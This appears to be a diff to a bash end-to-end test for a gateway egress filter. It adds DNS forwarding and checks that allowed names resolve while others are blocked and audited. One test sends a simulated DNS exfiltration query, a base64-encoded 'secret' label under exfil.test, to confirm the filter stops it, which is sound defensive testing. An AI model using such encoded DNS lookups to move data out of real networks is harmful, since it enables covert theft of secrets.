@@ -1,13 +1,15 @@
 #!/usr/bin/env bash
-# The NFQUEUE verdict path in the gateway topology: "cli" routes through
-# "gw", where botbox serve (uid 1337, CAP_NET_ADMIN) judges every forwarded
-# flow that is not steered HTTP. Forwarded packets have no local owner, so
-# their audit lines carry no uid.
+# The NFQUEUE verdict path and the DNS forwarder in the gateway topology:
+# "cli" routes through "gw", where botbox serve (uid 1337, CAP_NET_ADMIN)
+# judges every forwarded flow that is not steered HTTP, and answers the
+# clients' DNS (redirected in prerouting to its wildcard listener).
+# Forwarded packets have no local owner, so their audit lines carry no uid.
 . "$(dirname "$0")/../lib.sh"
 
 topo_gateway
 UP4=10.201.3.2
 UP6=fd00:201:3::2
+dnsmasq_start up $UP4 api.test=$UP4 c2VjcmV0.exfil.test=$UP4
 mkdir -p "$E2E_TMP/secrets"
 touch "$E2E_TMP/audit.jsonl"
 chown 1337:1337 "$E2E_TMP/audit.jsonl"
@@ -19,8 +21,11 @@ workers: 1
 secrets_dir: $E2E_TMP/secrets
 audit:
   output: $E2E_TMP/audit.jsonl
+dns:
+  upstream: $UP4
 egress_policy:
-  rules: []
+  rules:
+    - {host: api.test, action: allow}
   flows:
     - {proto: udp, cidr: $UP4/32, ports: [123]}
     - {proto: udp, cidr: "fd00:201:3::/64", ports: [123]}
@@ -44,6 +49,14 @@ check "tcp/5432 (a flows rule) completes" as_uid 1000 cli $PROBE connect $UP4 54
 refute "tcp/5433 is dropped" as_uid 1000 cli $PROBE connect $UP4 5433 --timeout 1
 refute "tcp/22 is dropped" as_uid 1000 cli $PROBE connect $UP4 22 --timeout 1
 refute "nothing unallowed arrived" logged tcp ':(5433|22)"'
+
+expect "a client's DNS query is answered by the forwarder" "$UP4" \
+    as_uid 1000 cli dig +short +time=2 +tries=1 @$UP4 api.test
+expect "... a name no rule allows: NXDOMAIN" "status: NXDOMAIN" \
+    as_uid 1000 cli dig +time=2 +tries=1 @$UP4 c2VjcmV0.exfil.test
+refute "... which the resolver never saw" grep -qi exfil "$E2E_TMP/dnsmasq.log"
+check "... both audited with the client's address" bash -c \
+    "grep '\"event\":\"dns\"' $E2E_TMP/audit.jsonl | grep -c '\"src\":\"10.201.2.2:' | grep -qx 2"
 
 kill -KILL "$SERVE_PID"
 wait "$SERVE_PID" 2>/dev/null
